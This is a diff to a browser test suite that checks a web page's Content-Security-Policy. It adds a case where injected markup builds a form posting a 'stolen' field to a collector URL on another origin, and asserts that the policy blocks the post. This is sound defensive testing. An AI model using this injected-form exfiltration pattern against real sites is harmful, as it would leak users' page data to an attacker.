@@ -151,7 +151,7 @@ test("Remember me keeps the session for every tab; signing out in one tab signs 
   await waitForStatus(p, /Sign in to manage/);
 });
 
-test("the page runs under its Content-Security-Policy: sent as a header, nothing violates it, injected script is refused", T, async () => {
+test("the page runs under its Content-Security-Policy: sent as a header, nothing violates it, injected script and a form to another origin are refused", T, async () => {
   const p = await page();
   assert.equal(p.csp, CSP, "the header, as the server sends it with the page");
   const res = await fetch(`${pb.url}/`);
@@ -172,6 +172,23 @@ test("the page runs under its Content-Security-Policy: sent as a header, nothing
   });
   assert.equal(ran, false, "the inline script did not run");
   await waitUntilProblem(p, /^csp: script-src-elem blocked inline/);
+  // A form sent to another origin (as injected markup would send what the page holds)
+  // is not sent, and the page stays (form-action 'self').
+  const elsewhere = "http://127.0.0.1:8109/collect";
+  const left = await p.evaluate(async (action) => {
+    const form = document.createElement("form");
+    form.method = "post";
+    form.action = action;
+    form.append(Object.assign(document.createElement("input"), { name: "stolen", value: "x" }));
+    document.body.append(form);
+    form.submit();
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    form.remove();
+    return location.href;
+  }, elsewhere);
+  assert.equal(left, `${pb.url}/`, "the page did not navigate");
+  await waitUntilProblem(p, /^csp: form-action blocked http:\/\/127\.0\.0\.1:8109\/collect/);
+  assert.ok(await p.locator("#manager").isVisible(), "still the signed-in page");
   // A framing page on another origin gets nothing (frame-ancestors 'none').
   const framer = await p.context().newPage();
   const refused = Promise.race([
@@ -184,7 +201,7 @@ test("the page runs under its Content-Security-Policy: sent as a header, nothing
   assert.equal(await framer.frames()[1].locator("#status").count(), 0, "the page did not load in the frame");
   await framer.close();
   // Only the violations caused here were reported.
-  p.problems = p.problems.filter((m) => !/inline|__injected/.test(m));
+  p.problems = p.problems.filter((m) => !/inline|__injected|form-action/.test(m));
   assert.deepEqual(p.problems, []);
 });
 
